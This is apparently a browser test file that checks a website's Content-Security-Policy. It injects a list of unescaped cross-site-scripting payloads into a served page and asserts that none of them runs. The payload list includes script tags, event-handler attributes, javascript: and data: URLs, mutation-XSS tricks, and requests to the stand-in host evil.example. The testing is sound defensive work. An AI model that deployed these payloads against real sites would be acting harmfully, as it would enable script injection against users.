/**
 * The Content-Security-Policy in a real browser: a page contains hostile markup, as if all escaping had
 * failed, and is served with its own headers. No script of that markup may run.
 */
import { createServer, type Server } from "node:http";

import { afterEach, expect, test } from "vitest";

import { ATTACK_VECTORS } from "../fixtures/attack-vectors.ts";
import { endServer, listen } from "../web-server.ts";
import type { Stage } from "./browser.ts";
import { commonStage } from "./screens.ts";

let stage: Stage;
let server: Server;
afterEach(async () => {
  await endServer(server);
});

const PER_PAGE = 25;

/** The function that all hostile markup calls. */
const ALARM = "act";

/** Markup that the attack vectors do not contain: other elements, gadgets, clicks and forms. */
const RAW = [
  "<script>act()</script>",
  "<script src=https://evil.example/a.js></script>",
  "<script src='data:text/javascript,act()'></script>",
  "<script type=module>act()</script>",
  "<script type=module src='data:text/javascript,act()'></script>",
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/p"],"eagerness":"immediate"}],"prerender":[{"urls":["/nowhere"]}]}</script>',
  "<script type=importmap>{}</script><script>act()</script>",
  "<img src=x onerror=act()>",
  "<svg onload=act()><animate onbegin=act() attributeName=x dur=1s>",
  "<svg><script>act()</script></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=act()></svg>#x'></use></svg>",
  "<video><source onerror=act()></video><audio src=x onerror=act()></audio>",
  "<iframe srcdoc='<script>parent.act()</script>'></iframe>",
  "<iframe src='javascript:parent.act()'></iframe>",
  "<iframe src='data:text/html,<script>parent.act()</script>'></iframe>",
  "<object data='javascript:act()'></object><embed src='javascript:act()'>",
  "<a id=lure href='javascript:act()'>lure</a>",
  "<form id=trap action='https://evil.example/'><input name=a value=b></form>",
  "<form id=trap2 action='javascript:act()'><button>go</button></form>",
  "<base href='https://evil.example/'>",
  "<link rel=stylesheet href='https://evil.example/a.css'><style>@import 'https://evil.example/b.css';</style>",
  "<link rel=modulepreload href='https://evil.example/preload.js'><link rel=import href='https://evil.example/i'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>act()</script>",
  "<div style='background:url(https://evil.example/s)'>s</div>",
  "<input autofocus onfocus=act()><details open ontoggle=act()>d</details>",
  "<body onload=act()><marquee onstart=act()>m</marquee>",
  "<math><mtext></p><img src=x onerror=act()></math>",
  "<noscript><p title='</noscript><img src=x onerror=act()>'></noscript>",
] as const;

test("unescaped hostile markup in a page runs no script and causes no navigation", async () => {
  stage = await commonStage();
  const page = await stage.site.get("/privacy");
  const html = await page.text();
  const hostile = [
    ...RAW,
    ...ATTACK_VECTORS.filter((text) => !text.includes("http-equiv=refresh")),
  ];
  const headers = Object.fromEntries(
    [...page.headers].filter(
      ([name]) => !/^(?:content-(?:length|encoding)|transfer-encoding)$/.test(name),
    ),
  );
  server = createServer((request, response) => {
    const [, from] = /^\/page\/(\d+)$/.exec(request.url ?? "") ?? [];
    if (from === undefined) {
      response.writeHead(404).end();
      return;
    }
    const markup = hostile.slice(Number(from), Number(from) + PER_PAGE).join("\n");
    response
      .writeHead(200, headers)
      .end(html.replace('<main id="main"', `${markup}<main id="main"`));
  });
  const port = await listen(server);
  const { context, close } = await stage.visit();
  const evil: string[] = [];
  await context.route("**evil.example/**", (route) => {
    // Pictures may come from anywhere, and a module that is preloaded is fetched and never run.
    const url = route.request().url();
    if (route.request().resourceType() !== "image" && !url.endsWith("/preload.js")) {
      evil.push(`requested ${url}`);
    }
    return route.abort();
  });
  const pages = Array.from(
    { length: Math.ceil(hostile.length / PER_PAGE) },
    (_, index) => `http://127.0.0.1:${port}/page/${index * PER_PAGE}`,
  );
  const visits = pages.map(async (address) => {
    const visitor = await context.newPage();
    await visitor.exposeFunction(ALARM, () => evil.push(`${address}: something ran`));
    visitor.on("dialog", (dialog) => {
      evil.push(`${address}: dialog`);
      void dialog.dismiss();
    });
    visitor.on("framenavigated", (frame) => {
      if (frame.url().includes("evil.example")) evil.push(`${address} led to ${frame.url()}`);
    });
    await visitor.goto(address);
    await visitor.evaluate(() => {
      document.querySelector<HTMLElement>("#lure")?.click();
      for (const form of document.querySelectorAll<HTMLFormElement>("#trap, #trap2")) form.submit();
    });
    // Requests and calls of the markup come before this answer, and what it draws before these frames.
    await visitor.evaluate(async () => {
      await fetch("/last");
      for (let frame = 0; frame < 3; frame += 1) {
        await new Promise((done) => {
          requestAnimationFrame(done);
        });
      }
    });
  });
  await Promise.all(visits);
  await close();
  expect(evil).toEqual([]);
  expect(hostile.length).toBeGreaterThan(200);
});

test("without the policy the same markup runs", async () => {
  stage = await commonStage();
  let ran = 0;
  server = createServer((_request, response) => {
    response.setHeader("content-type", "text/html").end(`<body>${RAW[6]}${RAW[0]}</body>`);
  });
  const port = await listen(server);
  const { page: visitor, close } = await stage.visit();
  await visitor.exposeFunction(ALARM, () => (ran += 1));
  await visitor.goto(`http://127.0.0.1:${port}/page`);
  await expect.poll(() => ran).toBe(2);
  await close();
});

test.each([
  ["does not load", (): [number, string] => [503, "no"]],
  ["throws at once", (): [number, string] => [200, "throw new Error('broken bundle')"]],
])("if the client script %s, pages are readable and links work", async (_how, broken) => {
  stage = await commonStage();
  server = createServer();
  const { context, page: visitor, close } = await stage.visit();
  let requests = 0;
  await context.route("**/assets/*.js", (route) => {
    requests += 1;
    const [status, body] = broken();
    return route.fulfill({ status, body, contentType: "text/javascript" });
  });
  await visitor.goto(stage.origin);
  await visitor.mouse.click(5, 5);
  await expect.poll(() => requests).toBeGreaterThan(0);
  expect(await visitor.locator("article").count()).toBeGreaterThan(10);
  await visitor.getByRole("link", { name: "See All" }).first().click();
  await visitor.waitForURL("**/world-news");
  expect(await visitor.locator("h1").innerText()).toBe("World News");
  expect(await visitor.locator("article").count()).toBeGreaterThan(10);
  await close();
});
